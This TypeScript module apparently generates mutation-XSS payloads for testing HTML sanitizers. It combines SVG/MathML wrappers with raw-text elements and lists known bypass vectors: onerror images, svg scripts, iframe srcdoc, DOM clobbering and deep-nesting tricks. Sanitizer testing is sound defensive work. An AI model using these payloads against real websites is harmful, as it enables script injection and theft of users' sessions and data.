import { each, JS, PAGE } from './payload.ts';

const IMG = `<img src=x onerror=${JS}>`;
const IN_ATTRIBUTE = `<img src=x onerror=${JS}>`.replaceAll('"', '&quot;');

/** Elements whose content is read differently in HTML, in SVG and MathML, with and without scripting. */
const rawText = [
	'style',
	'xmp',
	'noscript',
	'noembed',
	'noframes',
	'iframe',
	'title',
	'textarea',
	'script',
	'plaintext',
	'template',
	'select',
	'option',
	'annotation-xml',
	'desc',
	'foreignObject',
];
const foreign: [string, string][] = [
	['<svg>', '</svg>'],
	['<math>', '</math>'],
	['<svg></p>', '</svg>'],
	['<svg></br>', '</svg>'],
	['<math></p>', '</math>'],
	['<math><mtext>', '</mtext></math>'],
	['<math><mtext><table><mglyph>', '</mglyph></table></mtext></math>'],
	['<math><mi><mglyph>', '</mglyph></mi></math>'],
	['<math><annotation-xml encoding="text/html">', '</annotation-xml></math>'],
	['<svg><desc>', '</desc></svg>'],
	['<svg><foreignObject>', '</foreignObject></svg>'],
	['<form><math><mtext></form><form><mglyph>', '</mglyph></mtext></math></form>'],
	['<table><math><mtext>', '</mtext></math></table>'],
	['<select><template>', '</template></select>'],
	['<noscript>', '</noscript>'],
	['<a><table><a>', '</a></table></a>'],
	['<p><table><svg>', '</svg></table></p>'],
	['<b><p><i>', '</b></i></p>'],
	['<h2><h3><ul>', '</h2></ul></h3>'],
	['<blockquote><style>', '</blockquote></style>'],
	['<dl><dd><object>', '</dd></object></dl>'],
	['<frameset><noframes>', '</noframes></frameset>'],
	['<plaintext>', ''],
	['', ''],
];
/** Something that is a text or an attribute at first, and markup when it is read again. */
const insides: ((raw: string) => string)[] = [
	(raw) => `<${raw}><!--</${raw}>${IMG}-->`,
	(raw) => `<${raw}><p title="</${raw}>${IN_ATTRIBUTE}">`,
	(raw) => `<${raw}><a title="</${raw}>${IN_ATTRIBUTE}"></a></${raw}>`,
	(raw) => `<${raw}><p id="--></${raw}>${IN_ATTRIBUTE}"></p></${raw}>`,
	(raw) => `<${raw}><img title="</${raw}>&lt;img src=x onerror=${JS}&gt;"></${raw}>`,
	(raw) => `<${raw}>&lt;/${raw}&gt;&lt;img src=x onerror=${JS}&gt;</${raw}>`,
	(raw) => `<${raw}><![CDATA[</${raw}>${IMG}]]></${raw}>`,
	(raw) => `<${raw}></${raw} ><${raw}/>${IMG}`,
];

/** Attacks found against sanitizers, each a vector of its own. */
const known = [
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${JS}&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=${JS}>`,
	`<svg></p><style><a id="</style><img src=1 onerror=${JS}>">`,
	`<noscript><p title="</noscript><img src=x onerror=${JS}>">`,
	`<svg><style>&lt;img src=x onerror=${JS}&gt;</style></svg>`,
	`<math><annotation-xml encoding="text/html"><script>${JS}</script></annotation-xml></math>`,
	`<svg><script>${JS}</script></svg>`,
	`<svg><script>&#116;op${JS.slice(3)}</script></svg>`,
	`<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${JS}</handler></svg>`,
	`<iframe srcdoc="${PAGE}"></iframe>`,
	`<iframe srcdoc="&lt;img src=x onerror=${JS}&gt;"></iframe>`,
	`<iframe srcdoc="&amp;lt;script&amp;gt;${JS}&amp;lt;/script&amp;gt;"></iframe>`,
	`<object type="text/html" data="data:text/html,${PAGE}"></object>`,
	`<template shadowrootmode=open>${IMG}</template>`,
	`<div><template shadowrootmode=open><slot></slot>${PAGE}</template></div>`,
	`<table><tbody>${IMG}</tbody></table>`,
	`<select><style></select>${IMG}</style></select>`,
	`<p style="width:expression(${JS})">x</p>`,
	`<p style="behavior:url(data:,${PAGE})">x</p>`,
	`<p style="-moz-binding:url(data:text/xml,${PAGE})">x</p>`,
	`<style>@keyframes a{}</style><p style="animation-name:a" onanimationstart=${JS}>x</p>`,
	`<xml id=x><x><![CDATA[<img src=x onerror=${JS}>]]></x></xml>`,
	`<comment>${IMG}</comment>`,
	`<!--[if gte IE 4]>${PAGE}<![endif]-->`,
	`<?xml-stylesheet href="javascript:${JS}"?>`,
	`<!ENTITY x "${PAGE}">&x;`,
	`<!DOCTYPE x [<!ENTITY y "${JS}">]>${IMG}`,
	`<p id=documentElement name=dataset>x</p>${IMG}`,
	`<form id=attributes><input name=nodeName><input name=attributes></form>${IMG}`,
	`<form><input name=parentNode></form>${IMG}`,
	`<img name=body><img name=currentScript>${PAGE}`,
	`<a id=x><a id=x name=y href="javascript:${JS}">x</a>`,
	`<button popovertarget=x>x</button><p popover id=x onbeforetoggle=${JS}>y</p>`,
	`<p is="custom-element" onclick=${JS}>x</p>`,
	`${'<p>'.repeat(600)}${IMG}`,
	`${'<b><i>'.repeat(300)}<math><style>${IMG}</style>`,
	`${'<svg>'.repeat(520)}<style>${IMG}</style>`,
	`${'<blockquote>'.repeat(600)}<svg></blockquote><style>${IMG}`,
	`${'&amp;'.repeat(200)}lt;img src=x onerror=${JS}&gt;`,
];

/** Class 4: what becomes a script only when it is parsed a second time, nested in every foreign element. */
export const mutations = (): string[] => [
	...known,
	...each(foreign, each2(rawText, insides), ([open, close], inside) => `${open}${inside}${close}`),
	...each(foreign, [IMG, PAGE, `<svg onload=${JS}>`], ([open, close], inside) => `${open}${inside}${close}`),
];

const each2 = (names: readonly string[], makers: readonly ((name: string) => string)[]) =>
	each(names, makers, (name, make) => make(name));
